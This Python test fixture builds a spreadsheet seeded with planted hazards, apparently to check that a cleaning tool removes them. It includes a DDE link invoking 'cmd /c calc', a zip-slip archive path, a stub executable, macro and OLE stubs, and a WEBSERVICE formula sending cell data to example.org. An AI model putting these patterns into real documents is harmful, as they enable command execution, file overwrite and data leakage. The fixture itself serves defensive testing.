"""A team's workbook with all that a marked copy must not pass on, planted part by part."""

from __future__ import annotations

import re
from pathlib import Path

from lively_book import write_lively

from xltools.excel.package.workbook_package import Package

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SHEET = "xl/worksheets/sheet2.xml"  # the tasks
BOOK = "xl/workbook.xml"
ACTING = (
    "xl/vbaProject.bin",
    "xl/externalLinks/externalLink1.xml",
    "xl/externalLinks/externalLink2.xml",
    "xl/embeddings/oleObject1.bin",
    "xl/activeX/activeX1.xml",
    "xl/connections.xml",
    "xl/webextensions/taskpanes.xml",
    "../../../zipslip.txt",
    "xl/hidden.exe",
)
KINDS = ["connection", "dde", "extension", "link", "macro", "object", "unknown"]
# Cells of the tasks beyond those of the form: formulas, and what they showed.
FORMULAS = (
    '<row r="40"><c r="A40"><f t="shared" ref="A40:A41" si="7">[1]Sheet1!B1*2</f><v>84</v></c>'
    '<c r="B40" t="str"><f>[2]!\'!A0\'</f><v>calc</v></c>'
    '<c r="C40"><f>SUM(1,2)</f><v>3</v></c></row>'
    '<row r="41"><c r="A41"><f t="shared" si="7"/><v>86</v></c>'
    '<c r="B41"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>5</v></c></row>'
)
FAR = '<definedName name="far">[1]Sheet1!$A$1</definedName>'
SHOWN = {"A40": 84, "B40": "calc", "C40": 3, "A41": 86, "B41": 5}


def write_planted(path: Path) -> Path:
    """The lively workbook with macros, objects, links, add-ins and members of no use."""
    package = Package(write_lively(path).read_bytes())
    _link(package, BOOK, "vbaProject", "xl/vbaProject.bin", _COMPOUND, _MICROSOFT)
    first = _link(package, BOOK, "externalLink", ACTING[1], _external())
    package.add(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_OFFICE}/externalLinkPath" TargetMode="External" '
        'Target="file:///C:/Book2.xlsx"/></Relationships>',
    )
    second = _link(package, BOOK, "externalLink", ACTING[2], _dde())
    _link(package, BOOK, "connections", "xl/connections.xml", f"<connections {_MAIN}/>")
    _link(package, "", "webextensiontaskpanes", ACTING[6], "<taskpanes/>", _MICROSOFT)
    references = "".join(
        f'<externalReference xmlns:r="{_OFFICE}" r:id="{one}"/>' for one in (first, second)
    )
    package.replace(
        BOOK,
        package.text(BOOK)
        .replace("</sheets>", f"</sheets><externalReferences>{references}</externalReferences>")
        .replace("<definedNames>", f"<definedNames>{FAR}"),
    )
    _objects(package)
    package.add("../../../zipslip.txt", b"slipped")
    package.add("xl/hidden.exe", b"MZ")
    path.write_bytes(package.save())
    return path


def _objects(package: Package) -> None:
    """An OLE object and a control on the sheet of tasks, and cells with formulas that reach out."""
    ole = _link(package, SHEET, "oleObject", "xl/embeddings/oleObject1.bin", _COMPOUND)
    control = _link(package, SHEET, "control", "xl/activeX/activeX1.xml", "<ocx/>")
    named = f'xmlns:r="{_OFFICE}"'
    objects = (
        f'<oleObjects><oleObject progId="Package" shapeId="1" {named} r:id="{ole}"/></oleObjects>'
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="x14"><controls><control shapeId="2" {named} r:id="{control}"/>'
        "</controls></mc:Choice></mc:AlternateContent>"
    )
    text = package.text(SHEET).replace("</sheetData>", FORMULAS + "</sheetData>")
    end = re.search("<tableParts|<extLst|</worksheet>", text)
    assert end is not None
    package.replace(SHEET, text[: end.start()] + objects + text[end.start() :])


def _link(
    package: Package, part: str, kind: str, name: str, content: bytes | str, base: str = _OFFICE
) -> str:
    package.add(name, content, "application/x-planted")
    return package.relate(part, kind, name, base)


def _external() -> str:
    return f'<externalLink {_MAIN}><externalBook xmlns:r="{_OFFICE}" r:id="rId1"/></externalLink>'


def _dde() -> str:
    return f'<externalLink {_MAIN}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
